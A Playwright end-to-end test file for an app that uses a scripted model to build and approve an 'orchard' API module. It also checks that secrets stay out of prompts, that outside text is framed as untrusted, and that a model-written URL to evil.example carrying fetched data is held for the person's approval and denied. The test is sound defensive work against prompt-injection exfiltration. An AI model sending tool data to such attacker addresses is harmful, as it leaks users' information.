import { test } from "@playwright/test";
import type { RunView } from "../lib/contracts/run";
import { sampleModule } from "../lib/module-host/testing";
import { type AppProcess, startApp } from "./app-process";
import { callApi, expect, expectAccessible, type Installation, owner, signIn } from "./fixtures";
import { type ModelServer, startModelServer } from "./model-server/server";
import { systemText } from "./model-server/protocol";
import { assistantScript } from "./model-server/scripts/assistant";
import { type OrchardService, orchardKey, startOrchard } from "./orchard-service";

/** The main job with a model that drives the loop and writes the module: first with a type error, then failing its test, then right. */
test.describe.configure({ mode: "serial" });

let app: AppProcess;
let model: ModelServer;
let orchard: OrchardService;
let at: Installation;

test.beforeAll(async () => {
  test.setTimeout(300_000);
  orchard = await startOrchard();
  const written = { plan: 0, generate: 0, repair: 0 };
  model = await startModelServer({
    script(request, number) {
      const kind = /^BURGEON (PLAN|GENERATE|REPAIR)/m.exec(systemText(request))?.[1];
      if (kind === "PLAN") {
        written.plan += 1;
        return [{ say: JSON.stringify(plan(orchard.origin)) }];
      }
      if (kind === "GENERATE")
        return [{ say: `Here it is.\n${JSON.stringify({ files: files(orchard.origin, "types") })}` }];
      if (kind === "REPAIR") {
        written.repair += 1;
        return [{ say: JSON.stringify({ files: files(orchard.origin, written.repair === 1 ? "test" : "good") }) }];
      }
      return assistantScript(request, number);
    },
  });
  app = await startApp({
    BURGEON_OWNER_EMAIL: owner.email,
    BURGEON_OWNER_PASSWORD: owner.password,
    BURGEON_EGRESS_ALLOW: new URL(orchard.origin).host,
    BURGEON_MODEL: "openai-compatible:scripted",
    OPENAI_COMPATIBLE_BASE_URL: model.baseUrl,
    OPENAI_COMPATIBLE_API_KEY: model.apiKey,
  });
  const made = await app.burgeon(
    "token",
    "create",
    "--scopes",
    "chat,modules:read,modules:write,modules:approve",
    "--json",
  );
  at = { app, library: "", token: (JSON.parse(made.stdout) as { token: string }).token };
});
test.afterAll(async () => {
  await app?.stop();
  await Promise.all([model?.close(), orchard?.close()]);
});

function plan(origin: string) {
  return {
    category: "garden",
    name: "orchard",
    title: "Orchard",
    summary: "The trees of an orchard.",
    hosts: [new URL(origin).host],
    credentials: [{ name: "orchard_key", label: "Orchard key" }],
    operations: [{ name: "list_trees", kind: "tool", description: "Lists the trees of the orchard." }],
  };
}

function files(origin: string, quality: "types" | "test" | "good"): Record<string, string> {
  const base = sampleModule({ baseUrl: `${origin}/v1`, category: "garden", name: "orchard" });
  const manifest = JSON.parse(base["manifest.json"] ?? "");
  const tree = {
    type: "object",
    properties: { id: { type: "string" }, variety: { type: "string" } },
    required: ["id", "variety"],
  };
  manifest.title = "Orchard";
  manifest.connections.main.auth = { kind: "api_key", in: "header", name: "X-Orchard-Key", credential: "orchard_key" };
  manifest.credentials = [{ name: "orchard_key", label: "Orchard key" }];
  manifest.operations = {
    list_trees: {
      kind: "tool",
      description: "Lists the trees of the orchard.",
      effect: "read",
      input: { type: "object", properties: {} },
      output: { type: "object", properties: { items: { type: "array", items: tree } }, required: ["items"] },
      questions: ["Which trees stand in the orchard?"],
    },
  };
  const path = quality === "test" ? "/tree" : "/trees";
  const adapter = `import { type Ctx, collectPages, ensureOk } from "@burgeon/sdk";

interface Tree {
  id: string;
  variety: string;
}
interface Reply {
  data: Tree[];
  paging: { next_cursor: string | null };
}

export default {
  async list_trees(ctx: Ctx<"main">): Promise<{ items: Tree[] }> {
    const items = await collectPages(async (cursor) => {
      const response = await ctx.http.main.request({ path: "${path}", query: { cursor } });
      const reply = ensureOk(response, "The orchard").json<Reply>();
      return { items: reply.data${quality === "types" ? ".nonsense" : ""}, next: reply.paging.next_cursor };
    });
    return { items };
  },
};
`;
  const entry = (query: Record<string, string>, data: unknown, next: string | null) => ({
    connection: "main",
    request: { method: "GET", path: "/trees", query },
    response: { status: 200, json: { data, paging: { next_cursor: next } } },
  });
  return {
    ...base,
    "manifest.json": JSON.stringify(manifest, null, 2),
    "adapter.ts": adapter,
    "adapter.test.ts": `import { expect, test } from "@burgeon/sdk/test";\n\ntest("collects both pages", async ({ run }) => {\n  expect((await run("list_trees")).items.map((tree: { id: string }) => tree.id)).toEqual(["a", "b"]);\n});\n`,
    "cassettes/main.json": JSON.stringify([
      entry({}, [{ id: "a", variety: "Boskoop" }], "1"),
      entry({ cursor: "1" }, [{ id: "b", variety: "Topaz" }], null),
    ]),
  };
}

async function ask(message: string): Promise<RunView> {
  const started = await callApi<{ runId: string }>(at, "POST", "/api/runs", { message });
  await fetch(`${app.url}/api/runs/${started.body.runId}/events?after=0`, {
    headers: { authorization: `Bearer ${at.token}` },
  }).then((response) => response.text());
  return (await callApi<RunView>(at, "GET", `/api/runs/${started.body.runId}`)).body;
}

test("the model's third version passes and is put up for review", async () => {
  const run = await ask("Build me a module for the orchard next door");
  expect(run.status).toBe("done");
  expect(run.toolCalls[0]).toMatchObject({
    tool: "build_module",
    status: "done",
    output: { state: "awaiting_review", attempts: 3, category: "garden", name: "orchard" },
  });
});

test("approved and with its key, its tool is offered to the model, which answers live values of both pages", async () => {
  const module = await callApi<{ versions: { digest: string }[] }>(at, "GET", "/api/modules/garden/orchard");
  const digest = module.body.versions[0]?.digest ?? "";
  expect((await callApi(at, "POST", `/api/modules/garden/orchard/versions/${digest}/approve`, {})).status).toBe(200);
  expect(
    (await callApi(at, "PUT", "/api/modules/garden/orchard/credentials", { values: { orchard_key: orchardKey } }))
      .status,
  ).toBe(200);
  const run = await ask("List my trees");
  expect(run.toolCalls.map(({ tool }) => tool)).toEqual(["orchard_list_trees"]);
  expect(run.answer).toContain("Boskoop");
  expect(run.answer).toContain("Topaz");
});

test("the key was in no prompt, and what came from outside was framed as such", async () => {
  expect(model.requests.length).toBeGreaterThan(5);
  for (const { text } of model.requests) expect(text).not.toContain(orchardKey);
  expect(model.requests.at(-1)?.text).toMatch(/<untrusted source=/);
});

test("an address that only the model wrote is put to the person once such text is there; a no loads nothing", async ({
  page,
}) => {
  const { conversationId } = await ask("List my trees");
  await signIn(page, app.url);
  await page.goto(`${app.url}/chat/${conversationId}`);
  const box = page.getByRole("textbox", { name: "Message" });
  // Escaped as JSON may be, so the words of the person do not hold the address.
  await box.fill(String.raw`Use load_web_page with {"url":"https:\/\/evil.example\/?trees=Boskoop"}`);
  await box.press("Enter");
  const card = page.getByRole("region", { name: "Read a page of evil.example" });
  await expect(card).toContainText("Opens an address that only the model wrote");
  await expect(card).toContainText("https://evil.example/?trees=Boskoop");
  await expect(card).toContainText("after reading text from outside: garden/orchard");
  await expect(card.getByRole("button", { name: /Always/ })).toHaveCount(0);
  await expectAccessible(page);
  await card.getByRole("button", { name: /^Deny/ }).click();
  await expect(page.getByText(/You denied this; nothing was done/)).toBeVisible();
  // The page shows the answer as soon as it is stored; the worker tells the model after that.
  await expect.poll(() => model.requests.at(-1)?.text).toContain("The person denied this");
});
